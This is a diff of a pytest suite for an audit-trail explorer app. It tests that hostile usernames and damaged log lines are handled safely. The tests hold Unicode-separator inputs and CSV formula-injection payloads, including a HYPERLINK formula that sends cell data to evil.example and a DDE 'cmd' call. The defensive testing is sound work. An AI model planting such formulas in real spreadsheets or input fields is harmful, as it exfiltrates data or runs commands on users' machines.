@@ -17,14 +17,10 @@ import pytest
 from streamlit.testing.v1 import AppTest
 from typer.testing import CliRunner
 
-from jigsaw import accounts, audit
-from jigsaw.access import UserRole
+from jigsaw import audit
 from jigsaw_cli import app as cli
-from tests.paths import REPO_ROOT
-from tests.test_explorer_pages import small_network  # noqa: F401
+from tests.explorer_app import APP, PASSPHRASE, app, ready_account, sign_in
 
-APP = str(REPO_ROOT / "explorer" / "app.py")
-PASSPHRASE = "a long new passphrase"
 HOSTILE = {
     "line separator": "x\u2028y",
     "paragraph separator": "x\u2029y",
@@ -36,29 +32,6 @@ HOSTILE = {
     "lone low surrogate": "x\udfffy",
     "newline": "x\ny",
 }
-
-
-@pytest.fixture
-def home(tmp_path, monkeypatch) -> Path:
-    home = tmp_path / "home"
-    monkeypatch.setenv("JIGSAW_HOME", str(home))
-    monkeypatch.setenv("JIGSAW_USER", "admin.one")
-    return home
-
-
-def _account(home: Path, username: str = "amira.k", role: UserRole = UserRole.auditor) -> str:
-    """An account that has chosen its own password, so it signs straight in."""
-    accounts.change_password(home, username, accounts.add(home, username, role), PASSPHRASE)
-    return username
-
-
-def _sign_in(at: AppTest, username: str, password: str) -> AppTest:
-    """The explorer's sign-in form, as anyone on the network can fill it in."""
-    fields = {t.label: t for t in at.text_input}
-    fields["Username"].input(username)
-    fields["Password"].input(password)
-    next(b for b in at.button if b.label == "Sign in").click()
-    return at.run()
 
 
 @pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
@@ -110,7 +83,7 @@ def _lines(path: Path) -> list[bytes]:
 
 # A line that cannot be read hides the hash the next line chains to: where it replaced or
 # split a real line, the line after it is reported too ("and anything after it").
-@pytest.mark.parametrize("damage, bad, good", [
+@pytest.mark.parametrize(("damage", "bad", "good"), [
     # a tool that treats U+2028 as a line end splits a line in two
     (lambda ls: ls[:1] + ls[1].decode().replace("\\u2028", "\u2028").encode().split("\u2028".encode()) + ls[2:], [2, 3, 4], 3),
     (lambda ls: ls[:2] + [ls[2][:40]] + ls[3:], [3, 4], 3),                            # a line cut short
@@ -142,11 +115,11 @@ def test_a_torn_last_line_does_not_stop_the_trail_and_is_reported(home):
 
 def test_a_hostile_username_at_sign_in_breaks_nothing_after_it(home):
     """The attack of item 1, before any account: then a real sign-in, `users add` and verify."""
-    username = _account(home)
+    username = ready_account(home)
     at = AppTest.from_file(APP, default_timeout=60).run()
-    _sign_in(at, "x\u2028y", "guess")
+    sign_in(at, "x\u2028y", "guess")
     assert not at.exception and at.error
-    _sign_in(at, username, PASSPHRASE)
+    sign_in(at, username, PASSPHRASE)
     assert not at.exception and not at.error and at.title[0].value == "Audit trail"
     added = CliRunner().invoke(cli, ["users", "add", "nadia.o", "--role", "cse_analyst"])
     assert added.exit_code == 0, added.output
@@ -163,7 +136,7 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A
 def test_the_csv_export_runs_no_formula_is_owner_only_and_is_itself_audited(home, tmp_path):
     at = AppTest.from_file(APP, default_timeout=60).run()
     for username in FORMULAS:  # typed into the sign-in form by anyone who can reach it
-        _sign_in(at, username, "guess")
+        sign_in(at, username, "guess")
     out = tmp_path / "trail.csv"
     out.write_text("left by someone else")
     os.chmod(out, 0o644)
@@ -183,20 +156,19 @@ def test_the_csv_export_runs_no_formula_is_owner_only_and_is_itself_audited(home
 
 
 def test_the_audit_page_says_the_trail_is_broken_and_still_shows_every_line(home):
-    username = _account(home)
+    username = ready_account(home)
     path = _trail(home, 2)
     with path.open("ab") as handle:
         handle.write(b'{"at": "2026-01-01", "user": "x\xe2\x80\xa8y"\n')  # a line cut short by hand
-    at = _sign_in(AppTest.from_file(APP, default_timeout=60).run(), username, PASSPHRASE)
+    at = sign_in(AppTest.from_file(APP, default_timeout=60).run(), username, PASSPHRASE)
     assert not at.exception and at.title[0].value == "Audit trail"
     assert at.error and "line 3" in at.error[0].value
     assert "unreadable" in set(at.dataframe[0].value["Kind"])
 
 
 @pytest.mark.neo4j
-def test_a_free_query_longer_than_any_window_is_recorded_and_the_trail_goes_on(explorer_env, small_network):  # noqa: F811
+def test_a_free_query_longer_than_any_window_is_recorded_and_the_trail_goes_on(explorer_env, small_network):
     """The signed-in variant of item 1: a free query over 64 KiB, full of U+2028, on the Queries page."""
-    from tests.test_explorer_pages import app
 
     at = app()
     at.switch_page("views/queries.py").run()
